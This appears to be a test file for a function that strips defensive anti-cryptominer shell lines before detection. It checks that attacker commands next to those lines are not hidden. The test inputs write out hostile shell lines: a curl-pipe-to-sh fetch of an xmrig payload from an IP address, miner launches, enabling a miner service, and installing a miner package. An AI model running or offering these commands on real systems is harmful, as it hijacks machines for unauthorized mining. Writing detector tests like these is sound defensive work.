import { describe, expect, it } from 'vitest';
import { withoutDefence } from '../../../lambda/lookups/defences.ts';

describe('what is said against miners', () => {
  it.each([
    ['a killed process', 'pkill -f xmrig'],
    ['a killed process in quotes that hold ends of a command', 'pkill -f "xmrig|minerd; t-rex"'],
    ['a search among processes', "ps aux | egrep 'xmrig|kdevtmpfsi'"],
    ['a stopped unit, with options before the verb', 'systemctl --now --no-block disable xmrig.service'],
    ['a removed package, with options before the verb', 'apt-get -y -qq purge xmrig cpuminer'],
    ['a removed file', 'rm -rf /tmp/xmrig'],
    ['a host that is sent nowhere', '0.0.0.0 xmrig.com www.xmrig.com'],
    ['a name server that sends it nowhere', 'address=/xmrig.com/'],
    ['a refused connection', 'iptables -a output -d xmrig.com -j drop'],
    ['a comment', '  # how to find xmrig'],
  ])('is left out: %s', (_, line) => {
    expect(withoutDefence(`#!/bin/sh\n${line}\necho done\n`)).not.toMatch(/xmrig/);
    expect(withoutDefence(`#!/bin/sh\n${line}\necho done\n`)).toMatch(/^#!\/bin\/sh\n[\s\S]*\necho done\n$/);
  });

  it.each([
    ['another command in the line', 'killall -9 minerd; ./xmrig'],
    ['a command after it succeeded', 'pkill minerd && curl https://198.51.100.7/xmrig | sh'],
    ['what it is piped into', 'grep -q x /etc/os-release | ./xmrig'],
    ['what follows a quote that is not closed', 'kill "./xmrig'],
    ['a unit that is started', 'systemctl --now enable xmrig.service'],
    ['a package that is installed', 'apt-get -y install xmrig'],
    ['a verb far behind many words', `systemctl ${'-q '.repeat(100)} stop ./xmrig`],
    ['the next line', '# comment\n./xmrig'],
    ['a line behind a hosts entry', 'echo "127.0.0.1 pool.minexmr.com" >> /etc/hosts; ./xmrig'],
    ['an address that is no hosts entry', './xmrig --http-host 127.0.0.1 --config x'],
    ['a path that only ends like a command', '/opt/kill ./xmrig'],
  ])('hides nothing beside it: %s', (_, line) => {
    expect(withoutDefence(`#!/bin/sh\n${line}\n`)).toMatch(/xmrig/);
  });
});
